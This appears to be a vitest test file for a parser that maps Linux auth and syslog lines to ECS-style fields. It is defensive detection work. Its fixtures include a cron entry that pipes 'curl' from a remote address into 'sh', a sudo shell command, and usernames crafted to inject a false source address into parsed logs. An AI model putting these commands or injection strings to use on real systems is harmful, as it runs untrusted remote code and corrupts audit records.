import { expect, test } from 'vitest'
import { eventOf, loadLine } from './line.ts'

const line = await loadLine()
const read = (program: string, message: string): object =>
  eventOf(line(`<86>May 12 10:00:00 web01 ${program}: ${message}`))

const LOGIN = { 'event.action': 'ssh_login', 'event.dataset': 'system.auth', 'process.name': 'sshd', 'process.pid': 42 }

test.each<[string, object]>([
  [
    'Failed password for root from 203.0.113.9 port 4711 ssh2',
    {
      ...LOGIN,
      'event.outcome': 'failure',
      'event.category': ['authentication'],
      'user.name': 'root',
      'source.ip': '203.0.113.9',
      'source.port': 4711,
      'system.auth.ssh.method': 'password',
      'related.ip': ['203.0.113.9'],
      'related.user': ['root'],
    },
  ],
  [
    'Failed password for invalid user oracle from 2001:db8::9 port 4711 ssh2',
    { ...LOGIN, 'user.name': 'oracle', 'source.ip': '2001:db8::9', 'system.auth.ssh.invalid_user': true },
  ],
  [
    // The name is the attacker's: it must not move the blame to another address.
    'Failed password for invalid user root from 192.0.2.1 port 1 ssh2 from 203.0.113.9 port 4711 ssh2',
    { 'source.ip': '203.0.113.9', 'source.port': 4711, 'user.name': 'root from 192.0.2.1 port 1 ssh2' },
  ],
  [
    'Failed keyboard-interactive/pam for lan from 203.0.113.9 port 4711 ssh2',
    { 'system.auth.ssh.method': 'keyboard-interactive/pam', 'user.name': 'lan', 'event.outcome': 'failure' },
  ],
  [
    'Accepted publickey for lan from 203.0.113.9 port 4711 ssh2: ED25519 SHA256:abcDEF',
    {
      ...LOGIN,
      'event.outcome': 'success',
      'event.category': ['authentication', 'session'],
      'user.name': 'lan',
      'system.auth.ssh.signature': 'ED25519 SHA256:abcDEF',
    },
  ],
  [
    'Accepted password for lan from 203.0.113.9 port 4711 ssh2',
    { ...LOGIN, 'event.outcome': 'success', 'source.port': 4711 },
  ],
  [
    'Invalid user test from 203.0.113.9 port 4711',
    { ...LOGIN, 'event.outcome': 'failure', 'user.name': 'test', 'source.port': 4711 },
  ],
  ['Invalid user  from 203.0.113.9 port 4711', { ...LOGIN, 'source.ip': '203.0.113.9' }],
  [
    'Connection closed by authenticating user root 203.0.113.9 port 4711 [preauth]',
    { 'event.action': 'ssh_disconnect', 'user.name': 'root', 'source.ip': '203.0.113.9' },
  ],
  [
    'Connection reset by invalid user a b 203.0.113.9 port 4711 [preauth]',
    { 'user.name': 'a b', 'source.ip': '203.0.113.9', 'system.auth.ssh.invalid_user': true },
  ],
  ['Connection closed by 203.0.113.9 port 4711 [preauth]', { 'source.ip': '203.0.113.9', 'source.port': 4711 }],
  ['Disconnected from user lan 203.0.113.9 port 4711', { 'event.action': 'ssh_disconnect', 'user.name': 'lan' }],
  [
    'Received disconnect from 203.0.113.9 port 4711:11: disconnected by user',
    { 'source.ip': '203.0.113.9', 'source.port': 4711 },
  ],
  [
    'error: maximum authentication attempts exceeded for invalid user admin from 203.0.113.9 port 4711 ssh2 [preauth]',
    {
      'event.action': 'ssh_attempts_exceeded',
      'event.outcome': 'failure',
      'user.name': 'admin',
      'source.ip': '203.0.113.9',
    },
  ],
  [
    'User lan from 203.0.113.9 not allowed because not listed in AllowUsers',
    { 'event.action': 'ssh_user_denied', 'user.name': 'lan', 'event.reason': 'not listed in AllowUsers' },
  ],
  [
    'Did not receive identification string from 203.0.113.9 port 4711',
    { 'event.action': 'ssh_probe', 'source.ip': '203.0.113.9' },
  ],
  [
    'error: PAM: Authentication failure for illegal user test from 203.0.113.9',
    { 'user.name': 'test', 'source.ip': '203.0.113.9', 'event.outcome': 'failure' },
  ],
  [
    'message repeated 5 times: [ Failed password for root from 203.0.113.9 port 4711 ssh2]',
    { ...LOGIN, 'event.count': 5, 'user.name': 'root', 'source.ip': '203.0.113.9' },
  ],
  [
    'words that no sshd of today knows',
    { 'event.dataset': 'system.auth', message: 'words that no sshd of today knows', 'process.name': 'sshd' },
  ],
  [
    'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=x rhost=192.0.2.1',
    {
      'event.action': 'pam_authentication',
      'event.outcome': 'failure',
      'source.ip': '203.0.113.9',
      'user.name': 'x rhost=192.0.2.1',
      'event.provider': 'pam_unix',
      'system.auth.pam.service': 'sshd',
    },
  ],
  [
    'pam_unix(sshd:session): session opened for user lan(uid=1001) by (uid=0)',
    { 'event.action': 'logged-on', 'user.name': 'lan', 'user.id': '1001', 'user.effective.name': 'lan' },
  ],
  ['pam_unix(sshd:session): session closed for user lan', { 'event.action': 'logged-off', 'user.name': 'lan' }],
  [
    'Connection from 203.0.113.9 port 4711 on 10.10.1.5 port 22 rdomain ""',
    {
      'event.action': 'ssh_connection',
      'event.type': ['connection', 'start'],
      'source.ip': '203.0.113.9',
      'source.port': 4711,
      'destination.ip': '10.10.1.5',
      'destination.port': 22,
    },
  ],
  [
    'Postponed keyboard-interactive for invalid user lan from 203.0.113.9 port 4711 ssh2 [preauth]',
    {
      'event.action': 'ssh_login',
      'user.name': 'lan',
      'source.ip': '203.0.113.9',
      'system.auth.ssh.event': 'Postponed',
    },
  ],
  [
    'Disconnecting invalid user oracle 203.0.113.9 port 4711: Too many authentication failures [preauth]',
    {
      'event.action': 'ssh_disconnect',
      'user.name': 'oracle',
      'source.ip': '203.0.113.9',
      'event.reason': 'Too many authentication failures',
    },
  ],
  [
    'Disconnecting: Too many authentication failures for root [preauth]',
    { 'event.action': 'ssh_disconnect', 'event.reason': 'Too many authentication failures for root' },
  ],
  ['Connection closed by 203.0.113.9 [preauth]', { 'event.action': 'ssh_disconnect', 'source.ip': '203.0.113.9' }],
  [
    'error: Received disconnect from 203.0.113.9 port 4711:14: No more user authentication methods available. [preauth]',
    { 'event.action': 'ssh_disconnect', 'source.ip': '203.0.113.9', 'source.port': 4711 },
  ],
  [
    'Close session: user lan from 203.0.113.9 port 4711 id 0',
    { 'event.action': 'ssh_disconnect', 'user.name': 'lan', 'source.ip': '203.0.113.9', 'source.port': 4711 },
  ],
  [
    'User kho not allowed because account is locked',
    { 'event.action': 'ssh_user_denied', 'user.name': 'kho', 'event.reason': 'account is locked' },
  ],
  [
    'drop connection #12 from [203.0.113.9]:4711 on [10.10.1.5]:22 past MaxStartups',
    {
      'event.action': 'ssh_connection_dropped',
      'source.ip': '203.0.113.9',
      'destination.port': 22,
      'event.reason': 'past MaxStartups',
    },
  ],
  [
    'reverse mapping checking getaddrinfo for evil.example [203.0.113.9] failed - POSSIBLE BREAK-IN ATTEMPT!',
    { 'event.action': 'ssh_reverse_mapping', 'source.ip': '203.0.113.9', 'source.domain': 'evil.example' },
  ],
  [
    'Address 203.0.113.9 maps to evil.example, but this does not map back to the address.',
    { 'event.action': 'ssh_reverse_mapping', 'source.ip': '203.0.113.9', 'source.domain': 'evil.example' },
  ],
  [
    'Authentication tried for lan with correct key but not from a permitted host (host=evil.example, ip=203.0.113.9).',
    { 'event.action': 'ssh_user_denied', 'user.name': 'lan', 'source.ip': '203.0.113.9' },
  ],
  [
    'Authentication refused: bad ownership or modes for directory /home/lan',
    { 'event.action': 'ssh_key_refused', 'event.outcome': 'failure' },
  ],
  ['subsystem request for sftp by user lan', { 'event.action': 'ssh_subsystem', 'user.name': 'lan' }],
  [
    'input_userauth_request: invalid user oracle [preauth]',
    { 'event.outcome': 'failure', 'user.name': 'oracle', 'system.auth.ssh.invalid_user': true },
  ],
  [
    'srclimit_penalise: ipv4: new 203.0.113.9/32 deferred penalty of 5 seconds for penalty: failed authentication',
    { 'event.action': 'ssh_penalty', 'source.ip': '203.0.113.9' },
  ],
  [
    'fatal: Timeout before authentication for 203.0.113.9 port 4711',
    { 'source.ip': '203.0.113.9', 'source.port': 4711 },
  ],
  ['pam_unix(sshd:auth): check pass; user unknown', { 'event.outcome': 'failure' }],
])('sshd: %s', (message, fields) => {
  expect(read('sshd[42]', message)).toMatchObject(fields)
})

test.each<[string, string, object]>([
  [
    'sudo',
    '     lan : TTY=pts/0 ; PWD=/home/lan ; USER=root ; COMMAND=/bin/sh -c id ; USER=nobody',
    {
      'event.action': 'sudo_command',
      'event.outcome': 'success',
      'user.name': 'lan',
      'user.effective.name': 'root',
      'process.command_line': '/bin/sh -c id ; USER=nobody',
      'process.working_directory': '/home/lan',
      'system.auth.sudo.tty': 'pts/0',
      'related.user': ['lan', 'root'],
    },
  ],
  [
    'sudo',
    'lan : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls',
    { 'event.action': 'sudo_denied', 'event.outcome': 'failure', 'system.auth.sudo.error': 'user NOT in sudoers' },
  ],
  [
    'sudo',
    'lan : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls',
    { 'event.action': 'sudo_authentication', 'event.category': ['authentication'], 'event.outcome': 'failure' },
  ],
  ['sudo', 'unable to resolve host web01', { message: 'unable to resolve host web01', 'event.dataset': 'system.auth' }],
  [
    'su',
    '(to root) lan on pts/1',
    { 'event.action': 'su', 'event.outcome': 'success', 'user.name': 'lan', 'user.effective.name': 'root' },
  ],
  ['su', 'FAILED SU (to root) lan on pts/1', { 'event.outcome': 'failure', 'user.effective.name': 'root' }],
  ['su', 'Successful su for root by lan', { 'event.outcome': 'success', 'user.name': 'lan' }],
  ['su', 'FAILED su for root by lan', { 'event.outcome': 'failure', 'user.name': 'lan' }],
  ['su', '+ /dev/pts/0 lan:root', { 'event.outcome': 'success', 'user.name': 'lan', 'user.effective.name': 'root' }],
  [
    'useradd[9]',
    'new user: name=kho, UID=1002, GID=1002, home=/home/kho, shell=/bin/bash, from=/dev/pts/0',
    {
      'event.category': ['iam'],
      'event.type': ['user', 'creation'],
      'event.action': 'added-user-account',
      'user.name': 'kho',
      'user.id': '1002',
      'system.auth.useradd.shell': '/bin/bash',
    },
  ],
  [
    'groupadd[9]',
    'new group: name=kho, GID=1002',
    { 'event.type': ['group', 'creation'], 'group.name': 'kho', 'group.id': '1002' },
  ],
  [
    'usermod[9]',
    "add 'kho' to group 'sudo'",
    { 'event.action': 'added-member-to-group', 'user.name': 'kho', 'group.name': 'sudo' },
  ],
  [
    'gpasswd[9]',
    'user kho added by root to group sudo',
    {
      'event.action': 'added-member-to-group',
      'user.name': 'kho',
      'group.name': 'sudo',
      'user.effective.name': 'root',
    },
  ],
  ['userdel[9]', "delete user 'kho'", { 'event.type': ['user', 'deletion'], 'user.name': 'kho' }],
  [
    'useradd[9]',
    "failed adding user 'kho', exit code: 9",
    { 'event.outcome': 'failure', 'event.type': ['user', 'creation'], 'user.name': 'kho' },
  ],
  [
    'passwd[9]',
    'pam_unix(passwd:chauthtok): password changed for kho',
    { 'event.action': 'changed-password', 'user.name': 'kho' },
  ],
  ['chage[9]', 'changed password expiry for kho', { 'event.action': 'changed-password-expiry', 'user.name': 'kho' }],
  [
    'CRON[9]',
    '(root) CMD (curl -s http://203.0.113.9/x | sh)',
    {
      'event.dataset': 'system.syslog',
      'event.action': 'cron_command',
      'user.name': 'root',
      'process.command_line': 'curl -s http://203.0.113.9/x | sh',
    },
  ],
  ['crontab[9]', '(www-data) REPLACE (www-data)', { 'event.action': 'crontab_replace', 'user.name': 'www-data' }],
  [
    'systemd-logind[9]',
    "New session 'c2' of user 'lan' with class 'user' and type 'tty'.",
    { 'event.action': 'session_started', 'user.name': 'lan', 'system.auth.session.id': 'c2' },
  ],
  ['systemd-logind[9]', 'System is rebooting.', { 'event.action': 'host_reboot', 'event.category': ['host'] }],
  [
    'sudo',
    'pam_unix(sudo:session): session opened for user root(uid=0) by lan(uid=1001)',
    {
      'event.action': 'logged-on',
      'user.name': 'lan',
      'user.id': '1001',
      'user.effective.name': 'root',
      'user.effective.id': '0',
    },
  ],
  [
    'unix_chkpwd[9]',
    'password check failed for user (lan)',
    { 'event.dataset': 'system.auth', 'event.outcome': 'failure', 'user.name': 'lan' },
  ],
  [
    'crond[9]',
    "pam_access(crond:account): access denied for user `lan' from `203.0.113.9'",
    { 'event.outcome': 'failure', 'user.name': 'lan', 'source.ip': '203.0.113.9' },
  ],
  [
    'su[9]',
    "pam_wheel(su:auth): Access denied to 'root' for 'lan'",
    { 'event.outcome': 'failure', 'event.category': ['authentication'], 'user.name': 'lan' },
  ],
  [
    'sshd[9]',
    "pam_krb5(sshd:auth): authentication succeeds for 'lan' (lan@EXAMPLE.VN)",
    { 'event.outcome': 'success', 'user.name': 'lan' },
  ],
  [
    'login[9]',
    'LOGIN ON tty1 BY lan',
    { 'event.action': 'login', 'event.outcome': 'success', 'user.name': 'lan', 'system.auth.login.tty': 'tty1' },
  ],
  [
    'login[9]',
    'ROOT LOGIN ON pts/0 FROM 203.0.113.9',
    { 'event.outcome': 'success', 'user.name': 'root', 'source.ip': '203.0.113.9' },
  ],
  [
    'login[9]',
    "FAILED LOGIN (1) on '/dev/tty1' FOR 'a' FOR 'root', Authentication failure",
    { 'event.outcome': 'failure', 'user.name': "a' FOR 'root", 'system.auth.login.tty': '/dev/tty1' },
  ],
  [
    'login[9]',
    'FAILED LOGIN 2 FROM 203.0.113.9 FOR lan, Authentication failure',
    { 'event.outcome': 'failure', 'user.name': 'lan', 'source.ip': '203.0.113.9' },
  ],
  ['usermod[9]', "lock user 'kho' password", { 'event.action': 'locked-user-account', 'user.name': 'kho' }],
  [
    'userdel[9]',
    "removed shadow group 'kho' owned by 'kho'",
    { 'event.action': 'deleted-group-account', 'group.name': 'kho' },
  ],
  [
    'groupmod[9]',
    'group changed in /etc/group (group kho/1002, new gid: 2002)',
    { 'event.action': 'changed-group-account', 'group.name': 'kho' },
  ],
  ['systemd-logind[9]', 'New session 12 of user lan.', { 'event.action': 'session_started', 'user.name': 'lan' }],
  [
    'systemd[1]',
    'Stopped auditd.service - Security Auditing Service.',
    { 'event.action': 'unit_stopped', 'service.name': 'auditd.service - Security Auditing Service' },
  ],
  [
    'sshd(pam_unix)[9]',
    'session opened for user lan by (uid=0)',
    { 'process.name': 'sshd', 'event.action': 'logged-on', 'user.name': 'lan' },
  ],
])('%s: %s', (program, message, fields) => {
  expect(read(program, message)).toMatchObject(fields)
})

test('who is disconnected cannot name another address or reason', () => {
  const named = read(
    'sshd[42]',
    'Disconnecting invalid user a 192.0.2.1 port 1: x 203.0.113.9 port 4711: Too many [preauth]',
  )
  expect(named).toMatchObject({ 'source.ip': '203.0.113.9', 'source.port': 4711, 'event.reason': 'Too many' })
  const changed = read(
    'sshd[42]',
    'Disconnecting authenticating user a 203.0.113.9 port 4711: Change of username or service not allowed: (a,ssh-connection) -> (b 192.0.2.1 port 1,ssh-connection) [preauth]',
  )
  expect(changed).toMatchObject({ 'event.action': 'ssh_disconnect' })
  expect(changed).not.toHaveProperty('source.ip')
})

test('a step of a log-in is neither a success nor a failure', () => {
  const event = read('sshd[42]', 'Partial publickey for lan from 203.0.113.9 port 4711 ssh2: ED25519 SHA256:abc')
  expect(event).toMatchObject({ 'event.action': 'ssh_login', 'user.name': 'lan' })
  expect(event).not.toHaveProperty('event.outcome')
})

test('a program that is not sshd cannot speak for it', () => {
  const event = read('myapp', 'Failed password for root from 203.0.113.9 port 4711 ssh2')
  expect(event).not.toHaveProperty('event.action')
  expect(event).not.toHaveProperty('source.ip')
})
